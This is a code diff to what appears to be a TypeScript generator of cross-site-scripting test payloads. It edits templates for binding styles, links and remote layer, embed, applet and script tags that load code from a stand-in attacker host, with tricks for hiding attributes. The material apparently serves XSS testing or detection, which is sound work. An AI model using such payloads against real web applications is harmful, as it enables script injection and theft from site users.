@@ -524,7 +524,7 @@ export const elementTemplates = family('cross-site-scripting/element', {
     })
   ),
   binding: anywhere(
-    text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf('[link to code]', text`${attackerUrl}#xss`, text`${lowerWord}.htc`, text`mocha:[code]`)})${maybe(';')}`)}>`
+    text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf(text`${attackerUrl}#xss`, text`${lowerWord}.htc`)})${maybe(';')}`)}>`
   ),
   'data-binding': anywhere(
     oneOf(
@@ -546,10 +546,10 @@ export const elementTemplates = family('cross-site-scripting/element', {
     )
   ),
   'telling-link': anywhere(
-    text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'crosssitescripting', 'click me', 'hacked')}</a>`
+    text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'click me', 'hacked')}</a>`
   ),
   'remote-layer': anywhere(
-    text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', 'crosssitescripting', lowerWord)}.${words('js html css htc swf')}`)}${ending}`
+    text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', lowerWord)}.${words('js html css htc swf')}`)}${ending}`
   ),
   'attribute-hiding-end': anywhere(
     text`<script ${letters(LOWER)}=${oneOf('">"', "'>'", '`>`', '">\'>"')} ${maybe("'' ")}src=${quoted(text`http://${attackerHost}/${lowerWord}.js`)}></script>`
